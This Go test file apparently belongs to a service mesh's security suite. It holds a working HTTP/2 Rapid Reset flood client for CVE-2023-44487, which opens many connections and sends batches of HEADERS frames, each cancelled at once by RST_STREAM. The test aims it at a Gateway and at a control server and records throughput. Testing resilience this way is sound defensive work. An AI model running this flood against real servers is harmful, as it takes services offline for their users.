package attack

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// resetsSpec sends requests by HTTP/2 and resets each at once. A connection that the server ends is made again.
type resetsSpec struct {
	To      netip.AddrPort
	Workers int
	Hold    time.Duration
}

// resetStreams reports the requests that were sent, and how many connections the server has ended.
func resetStreams(s resetsSpec) (report, error) {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	// Names and values are written out, so that each request is the same bytes.
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "x"}, {":path", "/"}} {
		if err := e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1], Sensitive: true}); err != nil {
			return report{}, err
		}
	}
	var done, ended atomic.Int64
	end := time.Now().Add(s.Hold)
	var wg sync.WaitGroup
	for range s.Workers {
		wg.Go(func() {
			for time.Now().Before(end) {
				n, err := s.connection(block.Bytes(), end)
				done.Add(int64(n))
				if err != nil {
					ended.Add(1)
				}
			}
		})
	}
	wg.Wait()
	return report{Done: int(done.Load()), Refused: int(ended.Load())}, nil
}

// connection returns how many requests were sent on a connection until its end.
func (s *resetsSpec) connection(headers []byte, end time.Time) (n int, err error) {
	c, err := net.DialTimeout("tcp", s.To.String(), 2*time.Second)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	_ = c.(*net.TCPConn).SetLinger(0)
	_ = c.SetDeadline(end.Add(time.Second))
	go func() { _, _ = io.Copy(io.Discard, c) }()
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return 0, err
	}
	var batch bytes.Buffer
	f := http2.NewFramer(&batch, nil)
	if err := f.WriteSettings(); err != nil {
		return 0, err
	}
	const many = 50 // requests in one write
	for id := uint32(1); time.Now().Before(end) && id < 1<<30; {
		for range many {
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true, EndStream: true}); err != nil {
				return n, err
			}
			if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
				return n, err
			}
			id += 2
		}
		if _, err := c.Write(batch.Bytes()); err != nil {
			return n, err
		}
		batch.Reset()
		n += many
	}
	return n, nil
}

// resetGateway: requests of an outsider to a Gateway that are reset at once (CVE-2023-44487), while another namespace's Gateway is
// asked too. The control is a server in the process
// that measures and slows it, so the bound of time says little: what the case shows is that no request fails. See docs/security.md.
func resetGateway(t *testing.T, a *arena) string {
	edge := a.gateways(t)
	spec := resetsSpec{To: netip.AddrPortFrom(edge, 80), Workers: 64, Hold: 10 * time.Second}
	var r, control report
	noticed := a.under(t, func() { r = from(t, a.outsider, "resets", spec).wait() }, func() {
		serveHTTP2(t, a, ":8444")
		direct := spec
		direct.To = netip.AddrPortFrom(a.plain.Address, 8444)
		control = from(t, a.outsider, "resets", direct).wait()
	})
	rate := func(r report) int { return int(float64(r.Done) / spec.Hold.Seconds()) }
	return fmt.Sprintf("%d requests a second, %d connections ended (control %d a second, %d); %s", rate(r), r.Refused, rate(control), control.Refused, noticed)
}

// serveHTTP2 answers HTTP/2 in the clear at a port of the pod that is outside of the mesh, in this process.
func serveHTTP2(t *testing.T, a *arena, at string) {
	t.Helper()
	l, err := a.plain.Listen("tcp", at)
	if err != nil {
		t.Fatal(err)
	}
	s := &http.Server{Protocols: new(http.Protocols), Handler: http.HandlerFunc(func(http.ResponseWriter, *http.Request) {})}
	s.Protocols.SetUnencryptedHTTP2(true)
	go func() { _ = s.Serve(l) }()
	t.Cleanup(func() { _ = s.Close() })
}
